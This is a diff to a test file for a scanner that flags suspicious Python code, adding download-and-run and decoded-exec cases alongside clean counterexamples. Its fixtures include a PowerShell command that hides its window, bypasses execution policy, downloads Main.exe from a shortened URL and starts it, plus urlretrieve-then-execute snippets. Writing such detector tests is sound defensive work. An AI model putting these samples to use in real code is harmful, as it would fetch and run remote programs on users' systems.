@@ -86,6 +86,7 @@ describe('what each flag is for', () => {
     // GuardDog's code-execution.py case (DataDog/guarddog, tests/analyzer/sourcecode, Apache-2.0): PowerShell's `-window` prefix of -WindowStyle.
     ['silent-process', `import os\nos.system("powershell -window hidden -executionpolicy bypass (New-object system.net.webclient).DownloadFile('http://bit.ly/2myCV9n',$env:APPDATA+'\\Main.exe'); Start-Process $env:APPDATA'\\Main.exe'")\n`],
     ['silent-process', 'import subprocess\nsubprocess.run(["powershell", "-enc", "SQBFAFgA"])\n'],
+    ['exec-decoded', 'from subprocess import run\nimport base64\nrun(["python", "-c", base64.b64decode(CODE)])\n'],
     ['dynamic-import', 'm = __import__("so"[::-1])\n'],
     ['obfuscation', '___ = eval\n'],
     ['encoded-blob', `import marshal\nexec(marshal.loads(DATA))\nDATA = "${'QUJD'.repeat(300)}"\n`],
@@ -212,6 +213,8 @@ describe('a saved download run as a program', () => {
     ['a chained write, started by os.startfile', 'data = urlopen(u).read()\nopen(path, "wb").write(data)\nos.startfile(path)\n'],
     ['after `start /B` on Windows', 'urlretrieve(u, "x.bin")\nos.system("start /B x.bin")\n'],
     ['os.execv of the saved path', 'urlretrieve(u, target)\nos.execv(target, [target])\n'],
+    ['a process function imported by name', 'from subprocess import call\nurlretrieve(u, "a")\ncall(["./a"])\n'],
+    ['os.system imported under another name', 'from os import (\n    path,\n    system as _s,\n)\nurlretrieve(u, "a")\n_s("./a")\n'],
   ])('%s: download-and-run', (_name, text) => {
     expect(readImportCode(text).flags).toEqual(['download-and-run']);
   });
@@ -223,6 +226,7 @@ describe('a saved download run as a program', () => {
     ['a download verified by gpg', 'urlretrieve(u, "a.tgz")\nsubprocess.check_call(["gpg", "--verify", "a.tgz.asc", "a.tgz"])\n'],
     ['a download made read-only', 'urlretrieve(u, "a")\nos.chmod("a", 0o644)\n'],
     ['another file run', 'urlretrieve(u, "data.json")\nsubprocess.call(["./build.sh"])\n'],
+    ['a function of its own named call', 'def call(x):\n    pass\nurlretrieve(u, "a")\ncall(["./a"])\n'],
   ])('%s: clean', (_name, text) => {
     expect(readImportCode(text).flags).toEqual([]);
   });
